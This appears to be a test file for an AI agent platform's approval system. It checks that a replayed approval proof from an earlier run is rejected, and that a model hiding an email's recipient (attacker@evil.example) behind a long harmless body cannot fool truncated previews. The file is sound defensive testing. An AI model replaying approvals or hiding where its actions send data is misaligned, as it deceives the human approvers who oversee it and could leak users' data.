/**
 * Attacks on what an approval is for (docs/security.md rows 47 and 48): a proof taken from one run's history and sent
 * to a new run of the same workflow id asking the same call, and a model that hides where an email goes behind a long
 * harmless body, so that a view showing the start of the arguments shows nothing wrong.
 */
import { describe, expect, it } from 'vitest';
import { listApprovals } from '../../src/cli/approvals.js';
import { approvalProof } from '../../src/ops/approval-proof.js';
import { lastMessage, userSays } from '../../src/testing/script.js';
import { call, until } from '../support/approvals.js';
import { delegateReply, PARENT_SCOPES } from '../support/delegation.js';
import { useApprovalAttacks } from './approval-support.js';

const { h, KEY, effectsOf, lastTool, approve, waitingEmail, stillAnswers } = useApprovalAttacks();

describe('attacks on what an approval is for', () => {
  it('R7.5 attack 50: a proof from an earlier run of the same workflow id approves nothing in a new run asking the same call', async () => {
    const label = 'attack-50';
    const first = await waitingEmail(label);
    const proof = approve(first.id, first.request.requestId, first.request);
    await h.deputy.decideApproval(first.id, first.request.requestId, 'approve', proof);
    await until(
      async () => effectsOf(first.id),
      (e) => e.length === 1,
      'the first email',
    );
    await h.client.workflow.getHandle(first.id).terminate('the first run is over');

    // A new run under the same id asks a1.1 again, for the very same call: the digest is the same.
    const task = `${label}: send it`;
    h.model.add(
      { when: (r) => lastMessage(r) === task, reply: call('send_email', { to: `${label}@example.com`, body: label }) },
      {
        when: (r) => userSays(task)(r) && r.body.messages.at(-1)?.role === 'tool',
        reply: (r) => ({ text: `tool said: ${lastTool(r)}` }),
      },
      { when: (r) => userSays(task)(r) && lastMessage(r) === 'still there?', reply: { text: 'yes' }, times: 5 },
    );
    await h.deputy.startRun({ task, mode: 'conversation' }, { workflowId: first.id });
    const [again] = await until(
      () => h.deputy.approvals(first.id),
      (list) => list.length === 1 && list[0]!.firstRunId !== first.request.firstRunId,
      'the second request',
    );
    expect(again!.requestId).toBe(first.request.requestId);
    expect(again!.digest).toBe(first.request.digest);
    await expect(h.deputy.decideApproval(first.id, again!.requestId, 'approve', proof)).rejects.toThrow(
      `decideApproval: the proof is not ops's for approve of request ${again!.requestId} of run ${first.id} (first run ${again!.firstRunId}) with these arguments; the request stays open`,
    );
    expect(await h.deputy.approvals(first.id)).toHaveLength(1);
    expect(effectsOf(first.id)).toHaveLength(1);
    // Its own approver's proof for this run still decides it.
    await h.deputy.decideApproval(first.id, again!.requestId, 'deny', {
      approver: 'ops',
      proof: approvalProof(KEY, {
        runId: first.id,
        firstRunId: again!.firstRunId,
        requestId: again!.requestId,
        decision: 'deny',
        digest: again!.digest,
      }),
    });
    await stillAnswers(first.id);
    expect(effectsOf(first.id)).toHaveLength(1);
  });

  it('R7.2 R7.3 attack 51: arguments with a long harmless body before "to" are shown whole from the root, in the client and the CLI', async () => {
    const task = 'attack-51: delegate the mail';
    const body = `Quarterly numbers attached. ${'All is well. '.repeat(300)}`;
    const args = { body, to: 'attacker@evil.example' };
    h.model.add(
      {
        when: (r) => lastMessage(r) === task,
        reply: delegateReply({ briefs: [{ task_name: 'mailer', message: 'attack-51 mailer' }] }),
      },
      { when: (r) => lastMessage(r).endsWith('attack-51 mailer'), reply: call('send_email', args) },
      {
        when: (r) => userSays('attack-51 mailer')(r) && r.body.messages.at(-1)?.role === 'tool',
        reply: (r) => ({ text: lastTool(r) }),
      },
      { when: (r) => userSays(task)(r) && r.body.messages.at(-1)?.role === 'tool', reply: { text: 'done' } },
    );
    const id = h.id('attack-51');
    await h.deputy.startRun({ task, scopes: PARENT_SCOPES }, { workflowId: id });
    const [request] = await until(
      () => h.deputy.approvals(id),
      (list) => list.length === 1,
      'the child request',
    );
    // The root heard of it from its child, cut; the client reads it whole where it waits.
    const relayed = (
      await h.client.workflow.getHandle(id).query<{ arguments: string; argumentsChars: number }[]>('approvals')
    )[0]!;
    expect(relayed.arguments.length).toBeLessThan(relayed.argumentsChars);
    expect(relayed.arguments).not.toContain('attacker@evil.example');
    const whole = JSON.stringify(args);
    expect(request!.preview).not.toContain('attacker@evil.example');
    expect(request!.arguments).toBe(whole);
    expect(request!.argumentsChars).toBe(whole.length);
    // The CLI shows them whole.
    const listed = listApprovals(id, await h.deputy.approvals(id));
    expect(listed).toContain(`arguments (whole, ${whole.length} characters): ${whole}`);
    expect(listed).toContain('"to":"attacker@evil.example"');
    await h.deputy.decideApproval(id, request!.requestId, 'deny', {
      approver: 'ops',
      proof: approvalProof(KEY, {
        runId: request!.run,
        firstRunId: request!.firstRunId,
        requestId: request!.requestId,
        decision: 'deny',
        digest: request!.digest,
      }),
      reason: 'not to that address',
    });
    expect((await h.deputy.result(id)).status).toBe('completed');
    expect(effectsOf(request!.run)).toEqual([]);
  });
});
